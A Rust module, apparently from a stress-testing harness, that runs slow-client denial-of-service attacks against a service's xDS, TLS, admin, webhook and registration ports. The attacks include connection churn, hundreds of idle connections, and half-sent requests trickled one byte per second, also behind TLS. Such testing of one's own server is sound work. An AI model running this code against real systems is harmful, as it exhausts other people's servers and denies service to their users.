//! Slow clients on each port.

use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;

use anyhow::{Context, Result};
use futures::FutureExt;
use rustls::pki_types::ServerName;
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};

use super::frames::{PREFACE, open, settings};
use super::{crowd, from_elsewhere};
use crate::dialer::{DELTA, Dialer, hello};
use crate::{Attack, Counts, Deadline, Tally, Target};

pub(super) const ATTACKS: &[Attack] = &[
    Attack {
        name: "connections",
        what: "Connections to each port that are closed as soon as they are there",
        run: |target, deadline| connections(target, deadline).boxed(),
    },
    Attack {
        name: "idle-connections",
        what: "400 connections to each port that never say anything",
        run: |target, deadline| slowly(target, deadline, None).boxed(),
    },
    Attack {
        name: "slow-beginnings",
        what: "400 connections to each port that say what is due there, a byte in a second",
        run: |target, deadline| slowly(target, deadline, Some(1)).boxed(),
    },
    Attack {
        name: "half-beginnings",
        what: "400 connections to each port that say half of what is due there, and then nothing",
        run: |target, deadline| slowly(target, deadline, Some(usize::MAX)).boxed(),
    },
    Attack {
        name: "slow-behind-tls",
        what: "100 connections to each port with TLS that finish the handshake and then say what is due, a \
            byte in a second, or half of it",
        run: |target, deadline| behind_tls(target, deadline).boxed(),
    },
];

/// Number of connections to each TLS port: a handshake costs the attacker as much as the server.
const EACH_WITH_TLS: usize = 100;

/// Number of connections to each port.
const EACH: usize = 400;

/// Each port with the first bytes of an honest client.
fn ports(target: &Target) -> Result<Vec<(SocketAddr, Arc<[u8]>)>> {
    let xds = [PREFACE, &settings(&[]), &open(1, DELTA, &[])].concat();
    let name = ServerName::from(target.tls_xds.ip());
    let hello: Arc<[u8]> = hello(target, name)?.into();
    let get = b"GET /debug/registryz HTTP/1.1\r\nhost: localhost\r\naccept: */*\r\n\
        x-more: aaaaaaaaaaaaaaaaaaaaaa\r\n\r\n";
    let post = b"POST /v1/instances:batchRegister HTTP/1.1\r\nhost: localhost\r\n\
        content-type: application/json\r\ncontent-length: 4000000\r\n\r\n{}";
    let mut ports = vec![
        (target.plaintext_xds, xds.into()),
        (target.tls_xds, hello.clone()),
        (target.admin, get[..].into()),
    ];
    ports.extend(target.webhook.map(|address| (address, hello)));
    ports.extend(target.registration.map(|address| (address, post[..].into())));
    Ok(ports)
}

/// First bytes of an honest client after a handshake.
fn behind(target: &Target) -> Result<Vec<(Dialer, Arc<[u8]>)>> {
    let xds = [PREFACE, &settings(&[]), &open(1, DELTA, &[])].concat();
    let review = b"POST /validate HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\n\
        content-length: 100\r\n\r\n{}";
    let mut all = vec![(Dialer::nameless(target)?.from(66), xds.into())];
    if let Some(address) = target.webhook {
        all.push((Dialer::unchecked(address)?.from(66), review[..].into()));
    }
    Ok(all)
}

async fn behind_tls(target: Arc<Target>, deadline: Deadline) -> Result<Tally> {
    let (counts, ports) = (Counts::new(), behind(&target)?);
    let shared = counts.clone();
    crowd(EACH_WITH_TLS * ports.len(), deadline, &counts, move |index| {
        let (counts, port) = (shared.clone(), ports.get(index % ports.len()).cloned());
        async move {
            let (dialer, said) = port.context("there is a port")?;
            let socket = dialer.dial().await?;
            // Every other client sends half of it at once.
            let bytes = if index / 2 % 2 == 0 { 1 } else { usize::MAX };
            say_half(socket, &said, Some(bytes), &counts).await
        }
    })
    .await;
    Ok(counts.tally())
}

async fn connections(target: Arc<Target>, deadline: Deadline) -> Result<Tally> {
    let (counts, ports) = (Counts::new(), ports(&target)?);
    let shared = counts.clone();
    crowd(20 * ports.len(), deadline, &counts, move |index| {
        let (counts, port) = (shared.clone(), ports.get(index % ports.len()).map(|(address, _)| *address));
        async move {
            let address = port.context("there is a port")?;
            for _ in 0..20 {
                drop(from_elsewhere(address).await?);
                counts.sent(0);
                counts.answered();
            }
            Ok(())
        }
    })
    .await;
    Ok(counts.tally())
}

/// Sends that many bytes per second, up to half of the expected ones.
async fn slowly(target: Arc<Target>, deadline: Deadline, bytes: Option<usize>) -> Result<Tally> {
    let (counts, ports) = (Counts::new(), ports(&target)?);
    let shared = counts.clone();
    crowd(EACH * ports.len(), deadline, &counts, move |index| {
        let (counts, port) = (shared.clone(), ports.get(index % ports.len()).cloned());
        async move {
            let (address, said) = port.context("there is a port")?;
            say_half(from_elsewhere(address).await?, &said, bytes, &counts).await
        }
    })
    .await;
    Ok(counts.tally())
}

/// Sends half of the expected bytes at that rate, and then waits for the server to close the connection.
async fn say_half(
    mut socket: impl AsyncRead + AsyncWrite + Unpin,
    said: &[u8],
    bytes: Option<usize>,
    counts: &Counts,
) -> Result<()> {
    counts.answered();
    counts.sent(0);
    let half = said.get(..said.len() / 2).unwrap_or_default();
    let mut pieces = bytes.map(|bytes| half.chunks(bytes.min(half.len()).max(1))).into_iter().flatten();
    let mut answer = [0; 1_024];
    loop {
        if let Some(piece) = pieces.next() {
            socket.write_all(piece).await.context("cannot send")?;
            counts.sent(piece.len());
        }
        let wait = tokio::time::timeout(Duration::from_secs(1), socket.read(&mut answer));
        match wait.await {
            Err(_) => {}
            Ok(Ok(0)) => anyhow::bail!("closed"),
            Ok(Ok(_)) => counts.answered(),
            Ok(Err(error)) => anyhow::bail!("{}", error.kind()),
        }
    }
}
